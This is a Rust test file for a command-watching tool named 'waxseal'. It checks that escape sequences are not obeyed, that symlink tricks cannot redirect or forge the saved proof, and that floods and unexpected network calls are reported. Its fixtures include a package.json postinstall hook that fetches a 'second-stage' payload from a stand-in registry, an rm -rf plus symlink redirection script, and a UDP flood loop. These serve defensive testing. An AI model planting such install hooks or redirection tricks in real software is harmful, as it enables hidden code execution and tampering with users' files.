//! Attempts on the proof that is saved, and on whoever reads what is shown.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use super::{folder, watched};

fn waxseal(place: &Path, options: &[&str], command: &[&str]) -> Command {
    let mut it = Command::new(env!("CARGO_BIN_EXE_waxseal"));
    it.args(["run", "--format", "json", "--seed", "5"])
        .args(options)
        .arg("--")
        .args(command)
        .current_dir(place);
    it
}

fn is_obeyed(c: char) -> bool {
    (c.is_control() && !"\n\t".contains(c)) || ('\u{202a}'..='\u{202e}').contains(&c)
}

#[test]
fn nothing_that_is_shown_or_saved_is_obeyed_by_a_terminal_or_a_browser() {
    let place = tempfile::tempdir().unwrap();
    let proof = place.path().join("proof");
    for format in ["text", "json"] {
        let mut command = Command::new(env!("CARGO_BIN_EXE_waxseal"));
        command
            .args(["run", "--format", format, "--seed", "5", "--save"])
            .arg(&proof);
        command.args(["--", "node", "run.cjs", "escapes", "80", "198.51.100.66"]);
        let out = command.current_dir(folder()).output().unwrap();
        let shown = String::from_utf8([out.stdout, out.stderr].concat()).unwrap();
        assert!(shown.contains("made"), "{shown}");
        assert!(!shown.contains(is_obeyed), "{}", shown.escape_debug());
    }
    let mut looked = Vec::new();
    for name in [
        "events.jsonl",
        "traffic.har",
        "index.html",
        "run.json",
        "mail/0001.json",
    ] {
        let text = std::fs::read_to_string(proof.join(name)).unwrap_or_else(|err| panic!("{name}: {err}"));
        assert!(!text.contains(is_obeyed), "{name}: {}", text.escape_debug());
        looked.push(text);
    }
    // All of it was seen all the same.
    assert!(looked[0].contains("\\u001b[2J"), "{}", looked[0]);
    assert!(
        !looked[2].contains("<img") && looked[2].contains("&lt;img"),
        "{}",
        looked[2]
    );
}

#[test]
fn a_proof_inside_of_the_project_is_out_of_the_rooms_reach() {
    let place = tempfile::tempdir().unwrap();
    let target = tempfile::tempdir().unwrap();
    std::fs::write(target.path().join("events.jsonl"), "precious").unwrap();
    let into = target.path().display();
    let script =
        format!("rm -rf proof; ln -s {into} proof; ls -a; echo forged > proof/run.json; mkdir -p proof; echo made");
    let options = ["--save", "proof"];
    let ended = watched(&mut waxseal(place.path(), &options, &["sh", "-c", &script]));
    ended.is_whole();
    let proof = place.path().join("proof");
    assert!(!proof.is_symlink());
    let run = std::fs::read_to_string(proof.join("run.json")).unwrap();
    assert!(run.contains("waxseal.saved/1"), "{run}");
    assert_eq!(
        std::fs::read_to_string(target.path().join("events.jsonl")).unwrap(),
        "precious"
    );
    assert_eq!(std::fs::read_dir(target.path()).unwrap().count(), 1);
}

#[test]
fn a_project_cannot_lead_the_proof_elsewhere() {
    let place = tempfile::tempdir().unwrap();
    let target = tempfile::tempdir().unwrap();
    symlink(target.path(), place.path().join("proof")).unwrap();
    for name in ["proof", "proof/"] {
        let out = waxseal(place.path(), &["--save", name], &["true"]).output().unwrap();
        let said = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(2), "{said}");
        assert!(said.contains("is not a folder of its own"), "{said}");
    }
    assert_eq!(std::fs::read_dir(target.path()).unwrap().count(), 0);
}

#[test]
fn gigabytes_of_output_are_read_and_not_kept() {
    let place = tempfile::tempdir().unwrap();
    let script = "head -c 3G /dev/zero; yes '' | head -c 200M; head -c 500M /dev/zero >&2; echo made >&2";
    let ended = watched(&mut waxseal(place.path(), &["--no-project"], &["sh", "-c", script]));
    assert_eq!(ended.status, Some(0), "{:#}", ended.summary);
    assert!(ended.shown.len() < 128 << 20, "{}", ended.shown.len());
}

#[test]
fn more_events_than_are_kept_end_the_run_and_that_is_told() {
    let place = tempfile::tempdir().unwrap();
    let script = "const it = require('node:dgram').createSocket('udp4'); it.bind(() => {
        let idx = 0
        const more = () => { for (let at = 0; at < 200; at += 1) it.send('x', 9999, '198.51.100.8'); idx += 200; idx < 900000 ? setImmediate(more) : it.close() }
        more() })";
    let options = ["--no-project", "--max-time", "100s"];
    let ended = watched(&mut waxseal(place.path(), &options, &["node", "-e", script]));
    // Either wall may be the first to be overrun; none may be silent about it.
    assert_eq!(ended.status, Some(4), "{:#}", ended.summary["counters"]);
    assert_eq!(ended.summary["valid"], false, "{:#}", ended.summary["counters"]);
}

#[test]
fn what_the_registry_was_not_expected_to_be_asked_for_is_told() {
    let place = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(place.path().join(name), text).unwrap();
    write(
        "package.json",
        r#"{"name":"tiny","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node -e \"fetch('https://registry.example/second-stage').then(() => 0)\""}}"#,
    );
    write("index.js", "exports.a = 1");
    let mut command = Command::new(env!("CARGO_BIN_EXE_waxseal"));
    command
        .args([
            "run",
            "--format",
            "json",
            "--registry",
            "https://registry.example/",
            ".",
        ])
        .current_dir(place.path());
    let ended = watched(&mut command);
    let gaps = ended.summary["unclear"].as_array().unwrap();
    let unforeseen = gaps
        .iter()
        .any(|it| it["place"] == "registry.example" && it["requests"].to_string().contains("GET /second-stage"));
    assert!(unforeseen, "{:#}", ended.summary);
}
